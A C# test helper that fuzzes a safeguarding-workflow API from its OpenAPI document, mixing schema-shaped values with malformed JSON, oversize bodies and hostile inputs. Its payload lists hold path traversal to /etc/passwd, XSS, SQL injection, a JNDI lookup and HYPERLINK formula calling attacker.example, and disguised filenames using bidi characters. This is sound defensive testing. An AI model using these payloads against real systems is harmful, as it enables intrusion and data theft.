using System.Globalization;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;

namespace Safeguarding.Workflows.Host.Tests.OpenApi;

/// <summary>One operation of the OpenAPI document: what the runner sends and which statuses it may get back.</summary>
public sealed record ApiOperation(
    string Method,
    string Path,
    IReadOnlyList<ApiParameter> Parameters,
    IReadOnlyDictionary<string, JsonNode?> Bodies,
    IReadOnlyDictionary<string, IReadOnlyList<string>> Responses,
    bool Secured)
{
    /// <summary>Every operation of the document (<c>paths</c> × method).</summary>
    public static IReadOnlyList<ApiOperation> Of(JsonNode document)
    {
        var operations = new List<ApiOperation>();
        foreach (var (path, item) in document["paths"]!.AsObject())
        {
            foreach (var (method, node) in item!.AsObject())
            {
                if (method is "parameters" or "summary" or "description" or "servers")
                {
                    continue;
                }

                var parameters = (node!["parameters"]?.AsArray() ?? [])
                    .Select(p => new ApiParameter(p!["name"]!.GetValue<string>(), p["in"]!.GetValue<string>(), p["required"]?.GetValue<bool>() == true, p["schema"]))
                    .ToList();
                var bodies = (node["requestBody"]?["content"]?.AsObject() ?? [])
                    .ToDictionary(c => c.Key, c => c.Value?["schema"]);
                var responses = (node["responses"]?.AsObject() ?? [])
                    .ToDictionary(r => r.Key, r => (IReadOnlyList<string>)[.. (r.Value?["content"]?.AsObject() ?? []).Select(c => c.Key)]);
                var secured = node["security"]?.AsArray() is { Count: > 0 };
                operations.Add(new ApiOperation(method.ToUpperInvariant(), path, parameters, bodies, responses, secured));
            }
        }

        return operations;
    }

    public bool Documents(int status) =>
        Responses.ContainsKey(status.ToString(CultureInfo.InvariantCulture)) || Responses.ContainsKey($"{status / 100}XX") || Responses.ContainsKey("default");

    public override string ToString() => $"{Method} {Path}";
}

public sealed record ApiParameter(string Name, string In, bool Required, JsonNode? Schema);

/// <summary>A request made from the document: where it goes, what it carries and who sends it.</summary>
public sealed record GeneratedRequest(int Number, ApiOperation Operation, string Caller, string Url, string? ContentType, byte[]? Body, string Description)
{
    public HttpRequestMessage ToMessage()
    {
        var message = new HttpRequestMessage(new HttpMethod(Operation.Method), Url);
        if (Body is not null)
        {
            message.Content = new ByteArrayContent(Body);
            if (ContentType is not null)
            {
                message.Content.Headers.TryAddWithoutValidation("Content-Type", ContentType);
            }
        }

        return message;
    }

    public override string ToString() =>
        $"#{Number} {Operation.Method} {(Url.Length > 160 ? Url[..160] + "…" : Url)} as {Caller}, {Description}";
}

/// <summary>
/// Generates requests from an OpenAPI document, property-based: values shaped by the schemas (with the service's own
/// names steering strings towards dates, instants, emails and a small pool of ids, so some requests reach real
/// processes) and, mixed in, what a hostile or careless client sends: wrong types, malformed JSON, refused characters,
/// other media types, bodies over the limit, path values that are too long or hidden-character tricks. Seeded, so a
/// failing request can be replayed by its number.
/// </summary>
public sealed class RequestGenerator(JsonNode document, IReadOnlyList<string> callers, int seed)
{
    /// <summary>Larger than the 1 MiB default body limit (and than the test's paper limit).</summary>
    public const int OversizeBytes = (1024 * 1024) + 4096;

    private static readonly string[] Partnerships = ["staffordshire", "staffordshire", "staffordshire", "staffordshire", "solihull", "solihull", "warwickshire", "no-such-partnership"];
    private static readonly string[] KindPlurals = ["escalations", "rapid-reviews", "practice-reviews", "meetings", "annual-reports", "drills", "processes", "widgets"];
    private static readonly string[] Ids = ["a1", "a2", "b1", "p1", "r1", "2025-26"];
    private static readonly string[] Years = ["2025-26", "2024-25", "2026-27", "2025", "25-26", "2025-27"];
    private static readonly string[] DocumentNames = ["annual-report.html", "annual-report.docx", "formal-notice.html", "formal-notice.docx", "secrets.txt"];

    /// <summary>
    /// Path values a careless or hostile client sends: never empty or dot segments, which would address another route,
    /// nor NUL, which the in-memory test client refuses to send (Kestrel answers it itself, before the app).
    /// </summary>
    private static readonly string[] HostilePathValues =
    [
        "../../etc/passwd", "<script>alert(1)</script>", "a\u202Eb", "a\u200Bb", "' OR 1=1 --", "CON", "ｓｔａｆｆ", " ", "%",
        "a/b", "a?b=c", "a#b", "-1", "99999999999999999999", "1.5", "null", new string('x', 201), new string('y', 3000), "日本語",
    ];

    private static readonly string[] HostileStrings =
    [
        "<script>alert(1)</script>", "javascript:alert(1)", "../../../../etc/passwd", "' OR 1=1 --", "${jndi:ldap://attacker.example/a}",
        "{{7*7}}", "=HYPERLINK(\"http://attacker.example\")", "👨‍👩‍👧‍👦", "", " ", "\t\n", new string('A', 5000),
    ];

    /// <summary>JSON string literals (as sent) the text guard refuses.</summary>
    private static readonly string[] RefusedLiterals =
    [
        "\"invoice\\u202Etxt.exe\"", "\"Jay\\u200Bden\"", "\"a\\u2066b\\u2069\"", "\"nul\\u0000byte\"", "\"\\u001B[2J\"", "\"lone \\uD800 high\"", "\"bom\\uFEFF\"", "\"\\uFFFF\"",
    ];

    private static readonly string[] Malformed =
    [
        "{", "}", "[1,2", "{\"a\":}", "{'a':1}", "{a:1}", "{\"a\":1,}", "nul", "{\"a\":\"unterminated}", "{\"a\":01}", "{\"a\":NaN}",
        "{\"a\":1}{\"b\":2}", "<xml/>", "{\"a\":\"\\u12\"}", new string('[', 300) + new string(']', 300),
    ];

    private static readonly string[] OtherMediaTypes =
    [
        "text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/json; charset=latin1",
        "application/json; charset=utf-16", "application/octet-stream", "text/json", "application/jsonx",
    ];

    private readonly Random random = new(seed);
    private readonly JsonObject schemas = document["components"]?["schemas"]?.AsObject() ?? [];
    private int number;

    public IReadOnlyList<ApiOperation> Operations { get; } = ApiOperation.Of(document);

    public GeneratedRequest Next()
    {
        var operation = Pick(Operations);
        var notes = new List<string>();
        var url = UrlFor(operation, notes);
        var (contentType, body) = BodyFor(operation, notes);
        return new GeneratedRequest(++number, operation, Pick(callers), url, contentType, body, string.Join("; ", notes));
    }

    private string UrlFor(ApiOperation operation, List<string> notes)
    {
        var path = operation.Path;
        foreach (var parameter in operation.Parameters.Where(p => p.In == "path"))
        {
            var hostile = Chance(12);
            var value = hostile ? Pick(HostilePathValues) : PathValue(parameter);
            if (hostile)
            {
                notes.Add($"{parameter.Name}={Short(value)}");
            }

            path = path.Replace("{" + parameter.Name + "}", Uri.EscapeDataString(value), StringComparison.Ordinal);
        }

        var query = new List<string>();
        foreach (var parameter in operation.Parameters.Where(p => p.In == "query"))
        {
            if (!parameter.Required && Chance(50))
            {
                continue;
            }

            var value = Chance(25) ? Pick(HostileStrings) : ScalarFor(parameter.Name, parameter.Schema);
            query.Add($"{Uri.EscapeDataString(parameter.Name)}={Uri.EscapeDataString(value)}");
            notes.Add($"?{parameter.Name}={Short(value)}");
        }

        if (Chance(3))
        {
            // A contributor link that is not one: every secured route must refuse it as not signed in.
            query.Add("link=not-a-link");
            notes.Add("?link=not-a-link");
        }

        return query.Count == 0 ? path : path + "?" + string.Join('&', query);
    }

    /// <summary>A plausible value by the parameter's name, from small pools so requests meet the processes others created.</summary>
    private string PathValue(ApiParameter parameter) =>
        parameter.Name switch
        {
            "partnershipId" or "p" => Pick(Partnerships),
            "kindPlural" => Pick(KindPlurals),
            "year" => Pick(Years),
            "name" => Pick(DocumentNames),
            _ when IsInteger(parameter.Schema) => Pick(["1", "2", "7", "0", "-1", "2147483648"]),
            _ => Chance(80) ? Pick(Ids) : RandomWord(),
        };

    private (string? ContentType, byte[]? Body) BodyFor(ApiOperation operation, List<string> notes)
    {
        var takesBody = operation.Method is not ("GET" or "HEAD" or "OPTIONS" or "DELETE");
        if (!takesBody)
        {
            return (null, null);
        }

        if (operation.Bodies.Count == 0)
        {
            // A write without a documented body: usually nothing, sometimes what a client sends anyway.
            return random.Next(10) switch
            {
                < 6 => (null, null),
                < 8 => Note(notes, "body {}", "application/json", "{}"u8.ToArray()),
                8 => Note(notes, "refused character", "application/json", Utf8($"{{\"x\":{Pick(RefusedLiterals)}}}")),
                _ => Oversize(notes),
            };
        }

        if (operation.Bodies.ContainsKey("multipart/form-data"))
        {
            return Multipart(notes);
        }

        var (mediaType, schema) = Pick(operation.Bodies.ToList());
        var roll = random.Next(100);
        return roll switch
        {
            < 55 => Note(notes, "shaped body", mediaType, Utf8(ValueFor(schema, "", 0)?.ToJsonString() ?? "null")),
            < 67 => Note(notes, "shaped body, one value wrong", mediaType, Utf8(Mutate(ValueFor(schema, "", 0))?.ToJsonString() ?? "null")),
            < 74 => Note(notes, "malformed JSON", mediaType, Utf8(Pick(Malformed))),
            < 81 => Note(notes, "refused character", mediaType, Utf8(WithRefusedCharacter(ValueFor(schema, "", 0)))),
            < 87 => Note(notes, "wrong document", mediaType, Utf8(Pick(["[]", "42", "\"text\"", "null", "true", "[{}]", "{}"]))),
            < 94 => OtherMediaType(notes),
            < 97 => Note(notes, "no body", null, null),
            _ => Oversize(notes),
        };
    }

    private (string?, byte[]?) Multipart(List<string> notes)
    {
        var roll = random.Next(10);
        if (roll >= 8)
        {
            return roll == 8 ? Note(notes, "JSON instead of a form", "application/json", "{\"file\":\"x\"}"u8.ToArray()) : Oversize(notes);
        }

        var (name, content) = Pick<(string, byte[])>(
        [
            ("paper.pdf", Utf8("%PDF-1.4\n% generated\n")),
            ("paper.docx", [0x50, 0x4B, 0x03, 0x04, 0x14, 0x00, 0x00, 0x00]),
            ("paper.pdf", Utf8("MZ not a pdf")),
            ("paper.exe", Utf8("MZ")),
            ("empty.pdf", []),
            ("../../evil.pdf", Utf8("%PDF-1.4")),
            ("paper\u202Efdp.exe", Utf8("%PDF-1.4")),
        ]);
        var field = Chance(85) ? "file" : "document";
        const string boundary = "----generated-boundary";
        using var body = new MemoryStream();
        body.Write(Utf8($"--{boundary}\r\nContent-Disposition: form-data; name=\"{field}\"; filename=\"{name}\"\r\nContent-Type: application/octet-stream\r\n\r\n"));
        body.Write(content);
        body.Write(Utf8($"\r\n--{boundary}--\r\n"));
        return Note(notes, $"multipart {field}={Short(name)}", $"multipart/form-data; boundary={boundary}", body.ToArray());
    }

    private (string?, byte[]?) OtherMediaType(List<string> notes)
    {
        var type = Pick(OtherMediaTypes);
        var body = type.Contains("utf-16", StringComparison.Ordinal) ? Encoding.Unicode.GetBytes("{}") : Utf8(type.Contains("xml", StringComparison.Ordinal) ? "<a>1</a>" : "{}");
        return Note(notes, $"content type {type}", type, body);
    }

    private (string?, byte[]?) Oversize(List<string> notes) =>
        Note(notes, "body over the limit", "application/json", Utf8("{\"x\":\"" + new string('a', OversizeBytes) + "\"}"));

    private static (string?, byte[]?) Note(List<string> notes, string note, string? contentType, byte[]? body)
    {
        notes.Add(note);
        return (contentType, body);
    }

    /// <summary>A JSON value for the schema: its type (not null, mostly), an enum member, or steered by the property's name.</summary>
    private JsonNode? ValueFor(JsonNode? schema, string name, int depth)
    {
        schema = Resolve(schema);
        if (schema is null || depth > 6)
        {
            return depth > 6 ? null : JsonValue.Create(ScalarFor(name, null));
        }

        if (schema["enum"] is JsonArray choices && choices.Count > 0)
        {
            return Pick(choices.ToList())?.DeepClone();
        }

        if ((schema["oneOf"] ?? schema["anyOf"]) is JsonArray alternatives)
        {
            var nonNull = alternatives.Where(a => !Types(Resolve(a)).SequenceEqual(["null"])).ToList();
            return nonNull.Count > 0 && Chance(90) ? ValueFor(Pick(nonNull), name, depth) : null;
        }

        var types = Types(schema).Where(t => t != "null").ToList();
        // No type at all is a free-form document (JsonElement): the handler reads an object field by field.
        var type = types.Count == 0 ? "object" : types.Contains("integer") ? "integer" : Pick(types);
        if (Types(schema).Contains("null") && Chance(5))
        {
            return null;
        }

        switch (type)
        {
            case "object":
                var result = new JsonObject();
                var required = (schema["required"]?.AsArray() ?? []).Select(r => r!.GetValue<string>()).ToHashSet();
                foreach (var (property, propertySchema) in schema["properties"]?.AsObject() ?? [])
                {
                    if (required.Contains(property) ? Chance(98) : Chance(70))
                    {
                        result[property] = ValueFor(propertySchema, property, depth + 1);
                    }
                }

                if (schema["properties"] is null)
                {
                    // Free-form (JsonElement, read field by field by the handler): the service's usual field names.
                    foreach (var property in new[] { "caseReference", "awareOn", "decidedOn", "childLookedAfter", "agencies", "type", "on", "agency", "reason" }.Where(_ => Chance(85)))
                    {
                        result[property] = property switch
                        {
                            "childLookedAfter" => JsonValue.Create(Chance(50)),
                            "agencies" => new JsonArray(new JsonObject
                            {
                                ["agency"] = Pick(["Staffordshire Police", "Staffordshire County Council", RandomWord()]),
                                ["contact"] = new JsonObject { ["name"] = "Sam Jones", ["email"] = ScalarFor("email", null) },
                            }),
                            _ => JsonValue.Create(ScalarFor(property, null)),
                        };
                    }
                }

                return result;
            case "array":
                var items = new JsonArray();
                for (var i = random.Next(4); i > 0; i--)
                {
                    items.Add(ValueFor(schema["items"], name, depth + 1));
                }

                return items;
            case "integer":
                return JsonValue.Create(Pick(new long[] { 1, 2, 3, 5, 10, 0, -1, 100, 2147483648 }));
            case "number":
                return JsonValue.Create(Pick(new[] { 1.5, 0, -3.25, 1e300 }));
            case "boolean":
                return JsonValue.Create(Chance(50));
            default:
                return JsonValue.Create(ScalarFor(name, schema));
        }
    }

    /// <summary>A string value, steered by the name (the API's fields say what they hold) and the schema's format.</summary>
    private string ScalarFor(string name, JsonNode? schema)
    {
        var format = schema?["format"]?.GetValue<string>();
        var lower = name.ToLowerInvariant();
        if (IsInteger(schema) || lower is "top" or "add" or "stage" or "number" or "version")
        {
            return Pick(["1", "3", "10", "0", "-5", "abc", "1001"]);
        }

        if (format == "date" || lower is "on" or "from" || lower.EndsWith("on", StringComparison.Ordinal) || lower.EndsWith("before", StringComparison.Ordinal))
        {
            return Chance(85) ? new DateOnly(2026, 1, 5).AddDays(random.Next(-60, 120)).ToString("yyyy-MM-dd", CultureInfo.InvariantCulture) : Pick(["2026-02-30", "31/12/2026", "2026-1-5"]);
        }

        if (format == "date-time" || lower is "setto" || lower.EndsWith("at", StringComparison.Ordinal))
        {
            return Chance(90)
                ? new DateTimeOffset(2026, 1, 5, 9, 0, 0, TimeSpan.Zero).AddHours(random.Next(-24 * 30, 24 * 90)).ToString("yyyy-MM-ddTHH:mm:ssK", CultureInfo.InvariantCulture)
                : Pick(["0001-01-01T00:00:00Z", "9999-12-31T23:59:59Z", "2026-13-01T00:00:00Z", "yesterday"]);
        }

        return lower switch
        {
            "advanceby" => Pick(["P1D", "PT2H", "P3D", "P1W", "-P1D", "P99999999D", "soon"]),
            "email" => Chance(80) ? "someone@agency.example.org" : Pick(["not-an-email", "a@b"]),
            "casereference" => Chance(80) ? Pick(["RR-2026-014", "LCSPR/2026/03", "CSPR-7"]) : Pick(["JOHNSMITH", "rr-1"]),
            "url" => Pick(["https://example.org/annual-report", "http://example.org/x", "javascript:alert(1)"]),
            "year" => Pick(Years),
            "kind" => Pick(["rapid-review", "meeting", "escalation", "widget"]),
            "status" => Pick(["open", "completed", "cancelled", "closed"]),
            "overdue" => Pick(["true", "false", "maybe"]),
            "partnership" => Pick(Partnerships),
            "type" => Pick(["published", "panel-notified", "partners-informed", "agency-summary-received", "reviewer-appointed", "checkpoint-held", "responded", "resolved", "escalated", RandomWord()]),
            "decision" => Pick(["refer", "do-not-refer", "maybe"]),
            _ when lower == "id" || lower.EndsWith("id", StringComparison.Ordinal) => Chance(85) ? Pick(Ids) : RandomWord(),
            _ => Chance(85) ? $"{RandomWord()} {RandomWord()}" : Pick(HostileStrings),
        };
    }

    /// <summary>Replaces one value somewhere in the document with one of the wrong type.</summary>
    private JsonNode? Mutate(JsonNode? value)
    {
        JsonNode wrong() => Pick<Func<JsonNode>>([() => JsonValue.Create(42), () => JsonValue.Create("<script>alert(1)</script>"), () => new JsonArray(), () => new JsonObject(), () => JsonValue.Create(true), () => JsonValue.Create(new string('A', 10_000))])();
        if (value is JsonObject obj && obj.Count > 0)
        {
            var key = Pick(obj.Select(p => p.Key).ToList());
            obj[key] = Chance(50) ? wrong() : Mutate(obj[key]?.DeepClone());
            return obj;
        }

        if (value is JsonArray array && array.Count > 0)
        {
            array[random.Next(array.Count)] = wrong();
            return array;
        }

        return wrong();
    }

    private string WithRefusedCharacter(JsonNode? value)
    {
        var json = value?.ToJsonString() ?? "null";
        var literal = Pick(RefusedLiterals);
        return value is JsonObject { Count: > 0 } obj
            ? json[..^1] + $",\"{Pick(obj.Select(p => p.Key).ToList())}Extra\":{literal}}}"
            : $"{{\"x\":{literal}}}";
    }

    private JsonNode? Resolve(JsonNode? schema)
    {
        for (var i = 0; i < 10 && schema?["$ref"]?.GetValue<string>() is { } reference; i++)
        {
            schema = schemas[reference.Split('/')[^1]];
        }

        return schema;
    }

    private static IReadOnlyList<string> Types(JsonNode? schema) => schema?["type"] switch
    {
        JsonArray many => [.. many.Select(t => t!.GetValue<string>())],
        JsonValue one => [one.GetValue<string>()],
        _ => [],
    };

    private static bool IsInteger(JsonNode? schema) => Types(schema).Contains("integer");

    private string RandomWord() => Pick(["alpha", "bravo", "charlie", "delta", "echo", "foxtrot", "golf", "hotel", "india", "juliet"]) + random.Next(100).ToString(CultureInfo.InvariantCulture);

    private bool Chance(int percent) => random.Next(100) < percent;

    private T Pick<T>(IReadOnlyList<T> items) => items[random.Next(items.Count)];

    private static byte[] Utf8(string text) => Encoding.UTF8.GetBytes(text);

    private static string Short(string text) => text.Length <= 40 ? text : text[..40] + "…";
}
